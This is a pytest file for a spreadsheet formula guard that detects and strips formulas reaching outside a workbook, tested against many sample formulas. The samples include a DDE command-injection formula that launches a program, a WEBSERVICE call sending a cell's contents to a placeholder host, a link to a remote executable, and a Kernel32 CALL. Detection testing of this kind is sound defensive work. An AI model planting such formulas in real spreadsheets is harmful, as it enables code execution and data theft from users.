"""Which formulas reach outside the workbook, and what becomes of the cells that have one."""

from __future__ import annotations

import time
from html import escape

import pytest

from tests.workbook.marking import annotation, left_out, mark
from tests.workbook.packages import cell, parts, row, sheet, zipped
from xl_cotas.workbook.annotate.formulas import Guard

OUTSIDE = (
    'WEBSERVICE("http://exemplo.org/?"&B2)',
    'webservice ("http://exemplo.org")',
    '_xlfn.IMAGE("https://exemplo.org/a.png")',
    "[1]Plan1!A1",
    "[1]!nome",
    "[12]!'!A1'",
    "SUM('[1]Minha aba (2)'!$A$1:B2)",
    "'C:\\pasta\\[livro.xlsx]Plan1'!A1",
    "cmd|'/C calc'!A0",
    'DDE("soffice";"a.ods";"A1")',
    'HYPERLINK("file://servidor/x.exe","abrir")',
    'HYPERLINK("\\\\servidor\\x","abrir")',
    'HYPERLINK(A1,"abrir")',
    "INDIRECT(\"'file:///tmp/a.ods'#$Plan1.A1\")",
    'INDIRECT("[livro.xlsx]Plan1!A1")',
    'RTD("prog","","x")',
    'CALL("Kernel32","Beep","J")',
    'SQL.REQUEST("DSN=x","","","SELECT 1")',
    'IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""x"",""A1"")"),1)',
    'CUBEVALUE("dados","x")',
    "GET.CELL(1,A1)",
    "'a\"'!A1+[1]Plan1!A1+'b\"'!A1",
    "'a\"'!A1+'[1]Plan 1'!A1+'b\"'!A1",
    'EVALUATE("1+1")',
)
INSIDE = (
    "SUM(B2:B9)",
    "Tabela1[2020]+Plan1!A1",
    "SUM(Tabela1[[#This Row],[2020]:[2021]])",
    'IF(A1="x|y","a","b")',
    'HYPERLINK("#Vagas!A1","ir")',
    'HYPERLINK("https://www.gov.br","sítio")',
    "'Aba [1'!A1",
    'SUBSTITUTE(A1,"\\\\","")',
    'INDIRECT("B"&ROW())',
    "RECALL(1)",
    "TRUNC(B2*0.2)",
    'ROUND(B2*20%,0)&" vagas"',
    "IMAGEM1",
    "'a|b'!A1",
)


@pytest.mark.parametrize("formula", OUTSIDE)
def test_formulas_that_reach_outside(formula):
    written = escape(formula, quote=False).encode()
    assert Guard().suspects(written)
    assert Guard().reaches_outside(written)


@pytest.mark.parametrize("formula", INSIDE)
def test_formulas_that_stay_inside(formula):
    assert not Guard().reaches_outside(escape(formula, quote=False).encode())


def test_a_character_written_as_a_number_hides_nothing():
    assert Guard().suspects(b"&#87;EBSERVICE(A1)")
    assert Guard().reaches_outside(b"&#x57;EBSERVICE(A1)")


def test_names_that_were_left_out_count():
    guard = Guard(["Saldo"])
    assert guard.suspects(b"saldo*2")
    assert guard.reaches_outside(b"saldo*2")
    assert not guard.reaches_outside(b"SaldoFinal*2")


def copy_of(rows: str, **more: bytes) -> tuple[str, dict[str, bytes]]:
    made = parts(sheet(rows)) | more
    left, (after, _) = left_out(zipped(made), annotation(mark("A9")))
    return left, after


def test_the_value_stays_and_the_formula_goes():
    rows = row(
        2,
        cell("A2", "x", "str", "WEBSERVICE(B2)"),
        '<c r="B2" s="0" cm="1"><f t="array" ref="B2:B3">[1]Plan1!A1:A2</f><v>7</v></c>',
        cell("C2", 3, "", "A2*2"),
    )
    left, after = copy_of(rows)
    written = after["xl/worksheets/sheet1.xml"].decode()
    assert '<c r="A2" t="str"><v>x</v></c><c r="B2" s="0"><v>7</v></c>' in written
    assert cell("C2", 3, "", "A2*2") in written
    assert "aba 'Vagas': 2 fórmulas que buscam algo" in left and "(A2, B2)" in left
    listed = after["xl/worksheets/conferencia1.xml"].decode()
    assert "Não foi levado para esta cópia:" in listed and "WEBSERVICE" not in listed


def test_a_shared_formula_goes_with_all_its_cells():
    rows = row(1, '<c r="A1"><f t="shared" ref="A1:A2" si="3">RTD("a","","b")</f><v>1</v></c>')
    rows += row(2, '<c r="A2"><f t="shared" si="3"/><v>2</v></c>', '<c r="B2"><f t="shared" si="4"/><v>2</v></c>')
    _, after = copy_of(rows)
    written = after["xl/worksheets/sheet1.xml"].decode()
    assert '<c r="A1"><v>1</v></c>' in written
    assert '<c r="A2"><v>2</v></c><c r="B2"><f t="shared" si="4"/>' in written


def test_a_character_section_hides_no_formula():
    _, after = copy_of(row(1, '<c r="A1"><f><![CDATA[WEBSERVICE(B1)]]></f><v>1</v></c>'))
    assert '<c r="A1"><v>1</v></c>' in after["xl/worksheets/sheet1.xml"].decode()


def test_an_unmarked_sheet_is_cleaned_too():
    made = parts({"Vagas": sheet(), "Outra": sheet(row(1, cell("A1", 1, "", "[1]Plan1!A1")))})
    left, (after, _) = left_out(zipped(made), annotation(mark("A9")))
    assert "aba 'Outra'" in left
    assert b"[1]" not in after["xl/worksheets/sheet2.xml"]


def test_rules_and_small_charts_refer_to_nothing_instead():
    rule = '<cfRule type="expression"><formula>[1]Plan1!A1</formula></cfRule>'
    rule = f'<conditionalFormatting sqref="A1">{rule}</conditionalFormatting>'
    chart = '<extLst><ext xmlns:xm="y"><xm:f>[1]Plan1!A1:B1</xm:f></ext></extLst>'
    made = parts(sheet(row(1, cell("A1", 1)), rule + chart))
    left, (after, _) = left_out(zipped(made), annotation(mark("A1")))
    written = after["xl/worksheets/sheet1.xml"].decode()
    assert "<formula>#REF!</formula>" in written and "<xm:f>#REF!</xm:f>" in written
    assert "2 regras de formatação" in left


@pytest.mark.parametrize("piece", ["'[a]'", "'", '"', "[1]", "HYPERLINK(", "''", '"[1]', "[1", "A1|"])
def test_a_hostile_formula_costs_what_it_is_long(piece):
    formula = (piece * 300_000).encode()
    started = time.process_time()
    Guard().suspects(formula)
    Guard().reaches_outside(formula)
    assert time.process_time() - started < 2
